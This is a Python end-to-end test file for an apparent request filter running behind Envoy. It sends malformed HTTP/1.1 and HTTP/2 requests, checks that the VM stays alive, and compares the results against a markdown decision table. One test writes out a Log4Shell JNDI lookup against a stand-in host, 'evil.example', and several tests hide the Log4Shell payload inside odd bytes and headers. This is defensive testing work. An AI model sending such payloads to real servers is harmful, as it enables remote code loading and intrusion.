"""Requests that nobody sends by accident: who decides about each, as odd-requests.md has it, and that the VM lives on."""

import concurrent.futures
import pathlib
import re

from e2e.attacks import ATTACKS
from e2e.case import Case, config
from e2e.odd import HTTP1, HTTP2
from harness import client
from harness.bootstrap import Listener
from harness.http2 import Stream

# Status that the answer must have; None: Envoy or the application may refuse it as they like.
ODD = {
    "every byte from 0x80 to 0xff in a header": (200, client.request(headers=[(b"X-Odd", bytes(range(0x80, 0x100)))])),
    "bytes that are not UTF-8 in the user agent": (200, client.request(headers=[(b"User-Agent", b"bot \xc0\xa7\xc0\xa2 \xff\xfe")])),
    "bytes that are not UTF-8 in a cookie": (200, client.request(headers=[(b"Cookie", b"a=\xc3\x28; b=\xf0\x9f; \xff=1")])),
    "a tab and bytes 0x80-0xff around it": (200, client.request(headers=[(b"X-Odd", b"\x80\t\xff")])),
    "80 repeated headers": (200, client.request(headers=[("X-Again", f"value {i}") for i in range(80)])),
    "80 headers without a value": (200, client.request(headers=[(f"X-Empty-{i}", "") for i in range(80)])),
    "a cookie of 50 KiB": (200, client.request(headers=[("Cookie", "big=" + "abc123" * 8533)])),
    "10,000 cookies": (200, client.request(headers=[("Cookie", ";".join(["a=1"] * 10_000))])),
    "a query of 40 KiB in 8,000 parts": (200, client.request(target="/?" + "&".join(["a=11"] * 8_000))),
    "a path of /?": (200, client.request(target="/?")),
    "a path of /??&&==": (200, client.request(target="/??&&==&=a&b=")),
    "%": (200, client.request(target="/%?%=%")),
    "%%%": (200, client.request(target="/%%%?%%%=%%%&a=%%%")),
    "%zz": (200, client.request(target="/%zz?q=%zz&%zz=1")),
    "%u12": (200, client.request(target="/%u12?q=%u12&r=%u&s=%uzzzz")),
    "% at the end of a cookie and a form": (200, client.request("POST", "/", [("Cookie", "a=%"), ("Content-Type", "application/x-www-form-urlencoded")], "a=%&b=%2&%u=%u00")),
    "encoded NUL": (None, client.request(target="/a%00b?q=%00&r=%2500")),
    "HTTP/1.0 without a host": (None, [b"GET / HTTP/1.0\r\n\r\n"]),
    "a content type that is a riddle": (200, client.request("POST", "/", [("Content-Type", "multipart/form-data; boundary=")], b"--\r\n--\r\n\r\n----")),
    "a boundary of 0xff": (200, client.request("POST", "/", [(b"Content-Type", b"multipart/form-data; boundary=\xff\xfe")], b"--\xff\xfe\r\n\r\na\r\n--\xff\xfe--")),
    "JSON that never closes": (200, client.request("POST", "/", [("Content-Type", "application/json")], "[" * 100_000)),
    "JSON that is broken": (200, client.request("POST", "/", [("Content-Type", "application/json")], b'{"a": "\\ud800\\u12", "b" 1e999, \xff}')),
    "XML that never closes": (200, client.request("POST", "/", [("Content-Type", "application/xml")], "<a>" * 40_000)),
    "XML that is broken": (200, client.request("POST", "/", [("Content-Type", "application/xml")], b"<a b=c d='e><![CDATA[ &#xffffffff; &#; \xff")),
    "a body of zeros": (200, client.request("POST", "/", [("Content-Type", "text/plain")], bytes(100_000))),
    "a body of percent signs": (200, client.request("POST", "/", [("Content-Type", "application/x-www-form-urlencoded")], "%25" * 30_000)),
    "a traceparent that is none": (200, client.request(headers=[(b"Traceparent", b"\xff-00-\x80")])),
    "an accept header of bytes": (200, client.request(headers=[(b"Accept", b"\xff/\x80;q=\xfe")])),
}  # fmt: skip


class OddRequests(Case):
    def test_the_vm_lives_on(self):
        for name, (status, pieces) in ODD.items():
            with self.subTest(name):
                response = self.send_raw(pieces)
                if status:
                    self.assertEqual(response.status, status, response.body[:200])
                else:
                    self.assertNotIn(response.status, (500, 503), response.body[:200])
                self.assert_vm_alive(rounds=3)

    def test_odd_bytes_arrive_as_they_were_sent(self):
        odd = bytes(range(0x80, 0x100))
        self.assert_passes(self.send("GET", "/", [(b"X-Odd", odd)]))
        (seen,) = self.upstream.take()
        self.assertEqual(seen.values("x-odd")[0].encode("latin-1"), odd)

    def test_attack_among_odd_bytes_is_refused(self):
        attack = ATTACKS["log4shell"].encode()
        for name, headers in (
            ("a header", [(b"X-Odd", b"\xff\xfe" + attack + b"\x80")]),
            ("a cookie", [(b"Cookie", b"\xff=\xc0\xa7" + attack)]),
            ("the last of 80 headers", [(b"X-Again", b"fine")] * 79 + [(b"X-Again", attack)]),
            ("the end of 50 KiB", [(b"Cookie", b"big=" + b"abc123" * 8500 + attack)]),
        ):
            with self.subTest(name):
                self.assert_refused(self.send("GET", "/", headers), "log4shell")

    def test_a_second_request_behind_the_first_is_judged_by_itself(self):
        first, second = client.request()[0], client.request(target="/?q=%24%7Bjndi:ldap://evil.example/a%7D")[0]
        self.upstream.take()
        with client.connect(self.port()) as link:
            link.sendall(first + second)
            answers = b""
            while b"Request blocked" not in answers and (more := client.receive(link)):
                answers += more
        self.assertEqual(re.findall(rb"HTTP/1.1 (\d+)", answers), [b"200", b"403"])
        self.assertEqual([seen.target for seen in self.upstream.take()], ["/"])

    def test_refusal_of_odd_bytes_leaves_a_clean_event(self):
        self.assert_refused(self.send("GET", "/", [(b"X-Odd", b"\xff\xfe" + ATTACKS["log4shell"].encode()), (b"User-Agent", b"\x80")]), "log4shell")
        families = [event["family"] for event in self.envoy.events() if event["target"] == "header:x-odd"]
        self.assertEqual(families[:1], ["log4shell"], "what is blamed comes first")


TABLE = pathlib.Path(__file__).with_name("odd-requests.md")
ROW = re.compile(r"^\| (?P<name>.+?) \| (?P<who>Envoy|Envoy, later|backstop|application) \| (?P<answer>.+?) \| .*\|$", re.M)


def table(protocol):
    """The rows of a chapter of the page by their names: who decides, and the answers that are right."""
    chapter = re.search(rf"^## {re.escape(protocol)}$(.*?)(?=^## |\Z)", TABLE.read_text(), re.M | re.S)[1]
    rows = [found.groupdict() for found in ROW.finditer(chapter.replace("`", "").replace("\\|", "|"))]
    return {row["name"]: (row["who"], row["answer"].split(" or ")) for row in rows}


class Decided(Case):
    """Each row of odd-requests.md, as it is there."""

    listeners = {"main": Listener(config(handover={}))}  # which marks in the access log what backstop has let go on

    def assert_as_told(self, rows, requests, send):
        self.assertEqual(list(rows), list(requests), "the page and its requests differ")
        with concurrent.futures.ThreadPoolExecutor(8) as pool:  # since Envoy takes a second to close a connection
            responses = pool.map(send, requests.values())
        for name, response in zip(requests, responses):
            who, answers = rows[name]
            with self.subTest(name):
                entry = self.envoy.access(response)
                details = entry["details"]
                is_refused = details.startswith("backstop{")
                if details == "via_upstream":
                    seen = response.json()
                    self.assertEqual(seen["trailers"], [], "HTTP/1.1 carries none through Envoy")
                    details = seen["path"]
                elif is_refused:
                    details = details.removeprefix("backstop{").split(":")[0]
                self.assertIn(f"{response.status or 'none'} {details}", answers)
                is_known = entry["cost"] is not None or is_refused
                self.assertEqual(is_known, who != "Envoy" or response.status == 200, "whether backstop saw it")
        self.assert_vm_alive()

    def test_http1(self):
        self.assert_as_told(table("HTTP/1.1"), HTTP1, lambda data: client.send(self.port(), [data]))

    def test_http2(self):
        def send(request):
            headers, body, trailers = request
            with Stream(self.port(), headers, whole=True, end=body is None and trailers is None) as stream:
                try:
                    if body is not None:
                        stream.data(body, end=trailers is None)
                    if trailers is not None:
                        stream.trailers(trailers)
                except OSError:
                    pass  # refused already; the answer is there to be read
                return stream.answer()

        self.assert_as_told(table("HTTP/2"), HTTP2, send)
